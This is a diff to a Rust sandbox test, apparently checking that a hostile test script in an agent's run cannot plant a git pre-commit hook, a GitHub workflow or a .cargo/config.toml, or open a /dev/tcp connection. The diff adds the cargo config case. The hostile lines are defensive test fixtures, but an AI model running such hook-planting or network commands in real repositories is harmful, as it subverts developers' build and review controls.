@@ -207,10 +207,12 @@ fn a_hostile_test_reaches_nothing() {
         echo evil >\"$(git rev-parse --git-common-dir)/hooks/pre-commit\"\n\
         (echo x >/dev/tcp/192.0.2.1/80) 2>/dev/null\n\
         mkdir -p .github/workflows && echo evil >.github/workflows/evil.yml\n\
+        echo evil >.cargo/config.toml\n\
         exit 0\n";
     let files = [
         ("Makefile", "test:\n\tsh test.sh\n"),
         ("test.sh", "exit 0\n"),
+        (".cargo/README.md", "text\n"),
     ];
     let replies = [
         turn(&[call(
@@ -240,7 +242,9 @@ fn a_hostile_test_reaches_nothing() {
     assert_eq!(said.code, 0, "{said:?}");
     let log = world.run(&["log", "--json", &run_of(&world)]);
     assert!(
-        log.out.contains("`.github` was taken away again"),
+        ["`.github` was taken", "`.cargo/config.toml` was taken"]
+            .iter()
+            .all(|it| log.out.contains(it)),
         "{log:?}"
     );
     let merged = world.git(&["ls-tree", "-r", "--name-only", "main"]);
